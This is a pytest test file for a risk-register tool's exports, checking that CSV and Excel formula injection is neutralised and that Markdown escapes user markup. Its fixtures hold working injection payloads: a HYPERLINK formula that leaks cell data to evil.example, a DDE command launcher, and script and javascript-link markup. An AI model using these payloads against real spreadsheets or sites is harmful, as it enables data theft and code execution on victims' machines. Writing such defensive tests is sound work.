"""Exports of hostile text that arrived the way it does in practice, through the importers and the app:
formula injection is neutralised in CSV and Excel, user text is escaped in Markdown, and nothing is lost.

The hostile register files of ``tests/data/hostile`` (formulas, markup, unicode, a huge cell, a NUL byte) are
imported, SoA rows and actions get formula and markup text, and then every export the CLI and the app's
download buttons offer is read back: a CSV cell never starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return unless it is a number; an Excel cell is never a formula and formula-like text carries the
quote prefix; Markdown has no raw markup and keeps its table shape; and stripping the added quote gives
back exactly the stored text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine import exports, plan, register, soa
from engine.exports.safe import FORMULA_PREFIXES, safe_frame, safe_text
from engine.register.imports.limits import Limits
from engine.store import query
from tests import stores

pytestmark = pytest.mark.both_stores

HOSTILE = Path(__file__).resolve().parent.parent / "data" / "hostile"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
MARKUP = "<script>alert(1)</script> | [x](javascript:alert(1)) **b**"
WHO = {"actor": "seed", "channel": "api"}
csv.field_size_limit(sys.maxsize)  # the huge cell
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory, template_db: Path) -> Path:
    db = stores.copy_db(template_db, tmp_path_factory.mktemp("exports"), "hostile.duckdb")
    for name in ("formula_cells.csv", "formula_cells.xlsx", "markup_and_sql_text.csv", "unicode_text.csv",
                 "huge_cell.csv", "nul_byte_in_cell.csv", "quoted_newlines.csv"):
        # the huge cell is over the importers' default cell limit; raised here, as a user would, so the
        # exports' own cutting of over-long cells is what is tested
        register.import_risks(db, HOSTILE / name, Path(name).name, actor="seed",
                              limits=Limits(max_cell_chars=1_000_000))
    soa.set_row(db, "iso27001-2022", "A.5.1", applicable=True, reasons=["legal_regulatory"], owner="@ciso",
                implementation_notes=FORMULA, evidence=["+POL-1", DDE], **WHO)
    soa.set_row(db, "iso27001-2022", "A.7.4", applicable=False, justification=MARKUP,
                exclusion_reason="activity_not_performed", **WHO)
    soa.set_row(db, "iso42001-2023", "A.6.2.6", applicable=True, reasons=["risk_treatment"], owner="-1+1",
                implementation_notes="line one\nline two | pipe", **WHO)
    rid = register.list_risks(db)["id"][0]
    plan.add_action(db, title=DDE, owner="@ops", description=FORMULA, effort=2, risk_ids=[rid],
                         controls=["27001:A.8.13"], **WHO)
    soa.snapshot(db, approved_by="=approver()", note=MARKUP, confirmation=MARKUP, **WHO)
    return db


def _stored_texts(db: Path) -> set[str]:
    frame = register.list_risks(db)
    return {v for c in ("title", "owner", "description") for v in frame[c].drop_nulls().to_list()}


def _csv_cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data)) for cell in row]


def _assert_csv_is_inert(data: str) -> list[str]:
    cells = _csv_cells(data)
    live = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not NUMBER.match(c)]
    assert live == [], f"cells a spreadsheet would run: {live[:5]}"
    return cells


def _assert_workbook_is_inert(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    unquoted = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)
                and not c.quotePrefix]
    assert unquoted == [], f"formula-like text without the quote prefix: {unquoted[:5]}"
    return cells


# ------------------------------------------------------------------------------- the register

def test_register_csv_neutralises_imported_formulas_and_keeps_the_text(hostile_db: Path, tmp_path: Path,
                                                                       run_cli) -> None:
    out = tmp_path / "register.csv"
    code, _, err = run_cli("export", "register", "--format", "csv", "--out", out, "--db", hostile_db)
    assert code == 0, err
    cells = _assert_csv_is_inert(out.read_bytes().decode("utf-8"))  # line breaks inside cells as written
    restored = {c[1:] if c.startswith("'") and c[1:].startswith(FORMULA_PREFIXES) else c for c in cells}
    stored = _stored_texts(hostile_db)
    assert stored <= restored, sorted(stored - restored)[:5]
    assert "'" + DDE in cells and "'" + "@SUM(A1:A2)" in cells


def test_register_workbook_has_no_formula_and_keeps_the_text(hostile_db: Path) -> None:
    cells = _assert_workbook_is_inert(exports.register_xlsx_bytes(hostile_db))
    # control characters are stored in the workbook as _xHHHH_ escapes, which Excel shows as the character
    values = {re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), c.value)
              for c in cells if isinstance(c.value, str)}
    stored = {t for t in _stored_texts(hostile_db) if len(t) <= exports.EXCEL_CELL_LIMIT and "\x00" not in t}
    assert stored <= values, sorted(stored - values)[:5]
    # the huge cell is cut at Excel's limit, saying so
    cut = [v for v in values if "cut at Excel's cell limit" in v]
    assert cut and all(len(v) <= exports.EXCEL_CELL_LIMIT for v in cut)


def test_register_text_with_control_characters_makes_a_valid_workbook(hostile_db: Path) -> None:
    cells = _assert_workbook_is_inert(exports.register_xlsx_bytes(hostile_db))
    assert any(isinstance(c.value, str) and c.value.startswith("Title with a NUL") for c in cells)


# ------------------------------------------------------------------------------- the plan and the SoA

def test_plan_exports_are_inert(hostile_db: Path, tmp_path: Path) -> None:
    _assert_csv_is_inert(exports.export_plan(hostile_db, "csv", tmp_path / "plan.csv").read_bytes().decode())
    cells = _assert_workbook_is_inert(exports.plan_xlsx_bytes(hostile_db))
    assert any(c.value == DDE and c.quotePrefix for c in cells)


def test_soa_exports_are_inert_and_escaped(hostile_db: Path, tmp_path: Path) -> None:
    cells = _assert_csv_is_inert(exports.export_soa(hostile_db, "csv", tmp_path / "soa.csv").read_bytes().decode())
    assert "'" + FORMULA in cells and "'@ciso" in cells and "'-1+1" in cells
    wb_cells = _assert_workbook_is_inert(exports.soa_xlsx_bytes(hostile_db))
    assert any(c.value == MARKUP for c in wb_cells)  # a workbook shows markup as the text it is
    version = int(soa.latest_version(hostile_db)["version"])
    _assert_workbook_is_inert(exports.soa_xlsx_bytes(hostile_db, version=version))

    md = exports.export_soa(hostile_db, "md", tmp_path / "soa.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "**b**" not in md
    assert not re.search(r"(?<!\\)\]\(javascript:", md), "a Markdown link survived"
    assert "&lt;script&gt;" in md
    table_rows = [line for line in md.splitlines() if line.startswith("| ")]
    widths = {len(re.split(r"(?<!\\)\|", line)) for line in table_rows}
    assert len(widths) == 1, "an unescaped pipe in user text broke a Markdown table row"

    doc = json.loads(exports.export_soa(hostile_db, "json", tmp_path / "soa.json").read_text(encoding="utf-8"))
    by_ref = {(r["framework"], r["ref"]): r for r in doc["rows"]}
    assert by_ref[("iso27001-2022", "A.7.4")]["justification"] == MARKUP  # JSON keeps the exact text


# ------------------------------------------------------------------------------- what the app hands out

def test_app_downloads_are_inert(hostile_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ui import downloads

    monkeypatch.setenv("RISKMAP_DB", str(hostile_db))
    for formats in (downloads.register_formats(), downloads.plan_formats(), downloads.soa_formats()):
        for ext, fmt in formats.items():
            data = fmt.make()
            if ext == "csv":
                _assert_csv_is_inert(data.decode("utf-8"))
            elif ext == "xlsx":
                _assert_workbook_is_inert(data)
            elif ext == "md":
                assert b"<script>" not in data


def test_sql_page_download_is_inert(hostile_db: Path) -> None:
    """The SQL page offers ``safe_frame(result).write_csv()`` for download."""
    result = query.run_query("SELECT id, title, owner, description FROM risks ORDER BY id", hostile_db)
    data = safe_frame(result.frame).write_csv()
    cells = _assert_csv_is_inert(data)
    assert "'" + DDE in cells


# ------------------------------------------------------------------------------- the cell rules

TRIGGER_TEXT = st.builds(lambda p, t: p + t, st.sampled_from(list(FORMULA_PREFIXES) + ["", " ", "'", "a"]),
                         st.text(max_size=30))


@settings(max_examples=300, deadline=None)
@given(text=TRIGGER_TEXT)
def test_neutralised_text_is_inert_and_lossless(text: str) -> None:
    safe = safe_text(text)
    assert isinstance(safe, str)
    assert not safe.startswith(FORMULA_PREFIXES)
    assert safe == text or safe == "'" + text
    frame = safe_frame(pl.DataFrame({"x": [text]}))
    assert frame["x"][0] == safe


@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=40))
def test_markdown_cells_are_inert(text: str) -> None:
    cell = exports.md_cell(text)
    assert "\n" not in cell and "\r" not in cell
    assert not re.search(r"(?<!\\)\|", cell)
    assert "<" not in cell.replace("<br>", "") and ">" not in cell.replace("<br>", "")


def test_query_csv_output_neutralises_formulas(fresh_db, run_cli) -> None:
    code, out, err = run_cli("query", "SELECT '=cmd|'' /C calc''!A0' AS x, '@SUM(1)' AS y", "--db", fresh_db,
                             "--format", "csv")
    assert code == 0, err
    line = out.splitlines()[1]
    assert line.startswith("'=cmd") and ",'@SUM(1)" in line
